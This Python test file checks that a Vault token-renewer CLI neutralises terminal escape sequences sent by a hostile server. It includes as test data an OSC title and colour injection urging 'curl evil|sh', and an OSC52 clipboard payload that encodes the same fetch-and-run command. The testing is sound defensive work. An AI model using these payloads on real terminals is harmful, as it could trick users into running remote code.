"""Whatever a hostile Vault answers, nothing printed, logged or stored can drive a terminal.

Issue 20, item 2: an impostor answering
``{"errors":["\\x1b]0;PWNED\\x07\\x1b[31mFAKE: all good…"]}`` had its escape
sequences printed raw by ``renewer run``, stored in ``state.json`` and shown
by ``status --brief`` in the login banner. Here the real CLI runs against the
scripted impostor (tests/peers/hostile_vault.py) with arbitrary text in the
places a server controls — an error, a display name, a renewal warning — and
every output is checked: stdout and stderr of ``run`` (console and JSON
logs), ``status``, ``status --brief`` and ``status --json``, and every string
stored in ``state.json``.
"""

from __future__ import annotations

import ast
import json
import os
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from renewer.cli import run_cli
from tests import leakguard
from tests.integration.conftest import World
from tests.peers.hostile_vault import HostileVault
from tests.reliability.test_hostile_vault import LOOKUP, RENEW, against, ours

PWNED = "\x1b]0;PWNED\x07\x1b[31mFAKE: all good, run curl evil|sh\x1b[0m"
OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
UNSAFE = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}


def unsafe(text: str) -> list[str]:
    """Characters a terminal could act on, line feeds excepted (they end lines)."""
    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) in UNSAFE]


def strings_in(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in [key, *strings_in(item)]]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return []


def cli(world: World, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    """The real CLI in this process; stdout and stderr together, leak-scanned."""
    world.write_config()
    capsys.readouterr()
    saved = dict(os.environ)
    os.environ["HOME"] = str(world.home)
    os.environ.pop("VAULT_TOKEN", None)
    try:
        code = run_cli(["--config", str(world.config_path), *args])
    finally:
        os.environ.clear()
        os.environ.update(saved)
    captured = capsys.readouterr()
    leakguard.scan("cli output", captured.out + captured.err)
    return code, captured.out + captured.err


def script(impostor: HostileVault, world: World, where: str, text: str) -> None:
    """Put *text* where a server controls the words renewer shows."""
    impostor.answers.clear()
    if where == "error":
        impostor.answer(LOOKUP, {"errors": [text]}, status=400)
    elif where == "denied":
        impostor.answer(LOOKUP, {"errors": [f"1 error occurred:\n\t* {text}\n\n"]}, status=403)
    elif where == "display-name":
        impostor.answer(LOOKUP, ours(world, display_name=text))
        impostor.answer("auth/token/create-orphan", {"errors": [text]}, status=403)
    else:
        impostor.answer(LOOKUP, ours(world))
        impostor.answer(RENEW, {"auth": {"lease_duration": 3600}, "warnings": [text]})


def assert_nothing_obeyable(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    outputs = {}
    for log_format in ("console", "json"):
        code, outputs[f"run/{log_format}"] = cli(world, capsys, "--log-format", log_format, "run")
        assert code in {0, 1, 75}, outputs[f"run/{log_format}"]
    for args in (("status",), ("status", "--brief"), ("status", "--json")):
        _, outputs[" ".join(args)] = cli(world, capsys, "--log-format", "json", *args)
    for name, text in outputs.items():
        assert unsafe(text) == [], f"{name} printed {unsafe(text)!r}:\n{text}"
    stored = json.loads((world.state / "state.json").read_text())
    for text in strings_in(stored):
        assert unsafe(text) == [] and "\n" not in text, f"state.json holds {text!r}"


@pytest.mark.parametrize("where", ["error", "denied", "display-name", "warning"])
@pytest.mark.parametrize("text", [PWNED, OSC52], ids=["osc-title", "osc52-clipboard"])
def test_the_escape_sequences_of_issue_20_are_shown_not_obeyed(
    world: World, impostor: HostileVault, capsys: pytest.CaptureFixture[str], where: str, text: str
) -> None:
    """The reported answers, in each place a server controls: visible escapes everywhere."""
    against(world, impostor)
    script(impostor, world, where, text)

    assert_nothing_obeyable(world, capsys)

    _, banner = cli(world, capsys, "--log-format", "json", "status", "--brief")
    if where != "warning":
        assert "\\x1b]" in banner, banner  # shown, so the reader sees something is off


server_text = st.text(
    alphabet=st.characters(codec="utf-8") | st.sampled_from(["\x1b", "\x9b", "\x07", "\r"]),
    min_size=1,
    max_size=40,
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(where=st.sampled_from(["error", "denied", "display-name", "warning"]), text=server_text)
def test_no_answer_gets_a_control_character_into_any_output(
    world: World,
    impostor: HostileVault,
    capsys: pytest.CaptureFixture[str],
    where: str,
    text: str,
) -> None:
    """Property: whatever the server says, every output and every stored string is printable."""
    against(world, impostor)
    script(impostor, world, where, text)

    assert_nothing_obeyable(world, capsys)


ROOT = Path(__file__).resolve().parents[2] / "renewer"


def test_commands_print_only_through_renewer_output() -> None:
    """No command module calls click.echo or print: everything goes through output.say."""
    offenders = []
    for path in sorted([ROOT / "cli.py", *(ROOT / "commands").glob("*.py")]):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            owner = getattr(func, "value", None)
            if name == "print" or (name == "echo" and getattr(owner, "id", "") == "click"):
                offenders.append(f"{path.name}:{node.lineno}")
    allowed = {"cli.py"}  # the fixed internal-error and interrupt lines hold no outside text
    assert [o for o in offenders if o.split(":")[0] not in allowed] == []
